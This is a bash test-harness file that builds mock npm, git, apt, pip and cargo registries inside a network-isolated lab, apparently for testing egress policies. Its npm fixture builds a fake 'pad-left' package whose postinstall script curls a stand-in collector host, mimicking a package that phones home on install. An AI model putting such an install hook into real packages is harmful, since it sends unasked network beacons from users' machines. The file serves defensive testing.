# SPDX-License-Identifier: MIT
# shellcheck shell=bash
# The registries that jobs fetch from, in the lab: the real names, answered by the lab's resolver,
# lead to one server of its own with a certificate for them. A policy for the real world is tried as
# it is, and no packet of the test leaves the machine. Sourced after lab.sh.

REGISTRY_IP=93.184.216.60
# Where what a package's install script asks for would go.
COLLECTOR_IP=93.184.216.61
REGISTRIES=(registry.npmjs.org github.com deb.debian.org security.debian.org pypi.org
    files.pythonhosted.org index.crates.io static.crates.io model.example.org)
COLLECTOR=collect.example.net
R=$LAB/www/registries

# Each host has a directory; what npm asks for a package is a file beside the directory of its archives.
registries_site()
{
    cat <<CONF
server {
    listen 80;
    listen 443 ssl;
    server_name ${REGISTRIES[@]} $COLLECTOR;
    ssl_certificate $LAB/ca/registries.crt;
    ssl_certificate_key $LAB/ca/registries.key;
    root $R/\$host;
    types {
        text/html html;
        application/json json;
    }
    location / {
        try_files \$uri \$uri.json \$uri/index.html =404;
    }
    location = /-/npm/v1/security/advisories/bulk {
        default_type application/json;
        return 200 '{}';
    }
}
CONF
}

registries_names()
{
    local name
    printf 'server:\n'
    for name in "${REGISTRIES[@]}"; do
        printf '    local-data: "%s. 300 IN A %s"\n' "$name" "$REGISTRY_IP"
    done
    printf '    local-data: "%s. 300 IN A %s"\n' "$COLLECTOR" "$COLLECTOR_IP"
}

registries_answer()
{
    in_net curl -sf -o /dev/null --resolve "registry.npmjs.org:443:$REGISTRY_IP" \
        https://registry.npmjs.org/answers &&
        in_net dig +short +tries=1 +time=1 @"$RESOLVER_IP" registry.npmjs.org | grep -q "$REGISTRY_IP"
}

# registries: the server, and its names in the resolver.
registries()
{
    mkdir -p "$R"
    lab_watch "$REGISTRY_IP" && lab_watch "$COLLECTOR_IP" || return 1
    printf 'DNS:%s\n' "${REGISTRIES[@]}" "$COLLECTOR" >"$LAB/ca/registries.san"
    lab_leaf registries 2 root || return 1
    rm -f "$LAB/log/openssl.log"
    mkdir -p "$R/registry.npmjs.org" && : >"$R/registry.npmjs.org/answers"
    registries_site >"$LAB/conf/registries.site"
    registries_names >>"$LAB/conf/unbound.conf"
    lab_stop nginx
    lab_stop unbound
    lab_start nginx nsenter --net="$LAB/net" -- nginx -e stderr -c "$LAB/conf/nginx.conf"
    lab_start unbound nsenter --net="$LAB/net" -- "$LAB/bin/lab-unbound" -d \
        -c "$LAB/conf/unbound.conf"
    wait_for 10 registries_answer
}

# registry_npm: pad-left 1.0.0, whose install script tells a stranger, and a project in
# $LAB/home/app that depends on it and has a lockfile.
registry_npm()
{
    local at=$R/registry.npmjs.org app=$LAB/home/app work=$LAB/work/npm sum
    mkdir -p "$at/pad-left/-" "$work/package" "$app"
    cat >"$work/package/package.json" <<JSON
{"name": "pad-left", "version": "1.0.0", "main": "index.js",
 "scripts": {"postinstall": "curl -sS -m 10 https://$COLLECTOR/installed || true"}}
JSON
    printf 'module.exports = (s, n) => String(s).padStart(n);\n' >"$work/package/index.js"
    tar -C "$work" --sort=name --mtime=@0 --owner=0 --group=0 -czf "$at/pad-left/-/pad-left-1.0.0.tgz" package
    sum=sha512-$(openssl dgst -sha512 -binary "$at/pad-left/-/pad-left-1.0.0.tgz" | base64 -w0)
    jq -n --arg sum "$sum" '{name: "pad-left", "dist-tags": {latest: "1.0.0"}, versions: {"1.0.0": {
        name: "pad-left", version: "1.0.0", hasInstallScript: true, dist: {integrity: $sum,
        tarball: "https://registry.npmjs.org/pad-left/-/pad-left-1.0.0.tgz"}}}}' >"$at/pad-left.json"
    printf '{"name": "app", "version": "1.0.0", "dependencies": {"pad-left": "1.0.0"}}\n' \
        >"$app/package.json"
    jq -n --arg sum "$sum" '{name: "app", version: "1.0.0", lockfileVersion: 3, requires: true,
        packages: {"": {name: "app", version: "1.0.0", dependencies: {"pad-left": "1.0.0"}},
        "node_modules/pad-left": {version: "1.0.0", hasInstallScript: true, integrity: $sum,
        resolved: "https://registry.npmjs.org/pad-left/-/pad-left-1.0.0.tgz"}}}' \
        >"$app/package-lock.json"
    # One connection, and the same words from every version of npm.
    printf '%s\n' "cafile=$LAB/ca/root.crt" fund=false audit=false update-notifier=false \
        loglevel=error >"$LAB/home/.npmrc"
    chown -R "$TESTER_UID:$TESTER_UID" "$LAB/home"
}

# registry_git: https://github.com/example/tool.git, for the protocol that needs but files.
registry_git()
{
    local at=$R/github.com/example/tool.git work=$LAB/work/tool
    mkdir -p "$R/github.com/example"
    printf '[user]\n name = lab\n email = lab@allowed.example\n[safe]\n directory = *\n' \
        >"$LAB/home/.gitconfig"
    git init -q "$work" && printf 'a tool\n' >"$work/README" && git -C "$work" add README &&
        git -C "$work" commit -q -m one && git clone -q --bare "$work" "$at" &&
        git -C "$at" update-server-info
    chown "$TESTER_UID:$TESTER_UID" "$LAB/home/.gitconfig"
}

# registry_apt: one package in http://deb.debian.org/debian, and an apt.conf of the user's in
# $LAB/home/apt, whose every directory is his.
registry_apt()
{
    local at=$R/deb.debian.org/debian work=$LAB/work/deb apt=$LAB/home/apt
    mkdir -p "$at" "$work/DEBIAN" "$apt/lists/partial" "$apt/cache/archives/partial" \
        "$apt"/etc/{apt.conf,preferences}.d
    printf 'Package: lab-tool\nVersion: 1.0\nArchitecture: all\nMaintainer: Lab <lab@allowed.example>
Description: nothing\n' >"$work/DEBIAN/control"
    dpkg-deb --root-owner-group -b "$work" "$at/lab-tool_1.0_all.deb" >/dev/null || return 1
    (cd "$at" && dpkg-scanpackages . 2>/dev/null | gzip -n >Packages.gz) || return 1
    : >"$apt/status"
    printf 'deb [trusted=yes] http://deb.debian.org/debian ./\n' >"$apt/etc/sources.list"
    cat >"$apt/apt.conf" <<CONF
Dir::State "$apt"; Dir::State::status "$apt/status"; Dir::Cache "$apt/cache";
Dir::Etc "$apt/etc"; Acquire::Languages "none";
APT::Sandbox::User "";
CONF
    chown -R "$TESTER_UID:$TESTER_UID" "$apt"
}

# registry_pip: lab-tool 1.0 as a wheel, found by way of pypi.org, kept by files.pythonhosted.org.
registry_pip()
{
    local index=$R/pypi.org/simple/lab-tool file=lab_tool-1.0-py3-none-any.whl
    mkdir -p "$index" "$R/files.pythonhosted.org"
    /usr/bin/python3 - "$R/files.pythonhosted.org/$file" <<'PY' || return 1
import sys, zipfile
with zipfile.ZipFile(sys.argv[1], "w") as z:
    z.writestr("lab_tool.py", "")
    z.writestr("lab_tool-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: lab-tool\nVersion: 1.0\n")
    z.writestr("lab_tool-1.0.dist-info/WHEEL",
               "Wheel-Version: 1.0\nGenerator: lab\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    z.writestr("lab_tool-1.0.dist-info/RECORD", "")
PY
    printf '<!DOCTYPE html><a href="https://files.pythonhosted.org/%s">%s</a>\n' "$file" "$file" \
        >"$index/index.html"
}

# registry_cargo: lab-tool 1.0.0 in the sparse index, kept by static.crates.io, and a project in
# $LAB/home/crate that depends on it.
registry_cargo()
{
    local index=$R/index.crates.io files=$R/static.crates.io/crates/lab-tool app=$LAB/home/crate
    local work=$LAB/work/lab-tool-1.0.0 dir manifest='[package]\nname = "%s"\nversion = "1.0.0"\n'
    mkdir -p "$index/la/b-" "$files/1.0.0" "$work/src" "$app/src"
    for dir in "$work" "$app"; do
        # shellcheck disable=SC2059 # the format is the manifest
        printf "$manifest" "$([ "$dir" = "$app" ] && echo app || echo lab-tool)" >"$dir/Cargo.toml"
        : >"$dir/src/lib.rs"
    done
    printf '[dependencies]\nlab-tool = "1.0.0"\n' >>"$app/Cargo.toml"
    tar -C "$LAB/work" -czf "$files/1.0.0/download" lab-tool-1.0.0
    printf '{"dl": "https://static.crates.io/crates"}\n' >"$index/config.json"
    jq -nc --arg sum "$(sha256sum <"$files/1.0.0/download" | cut -d' ' -f1)" '{name: "lab-tool",
        vers: "1.0.0", deps: [], cksum: $sum, features: {}, yanked: false}' >"$index/la/b-/lab-tool"
    chown -R "$TESTER_UID:$TESTER_UID" "$app"
}
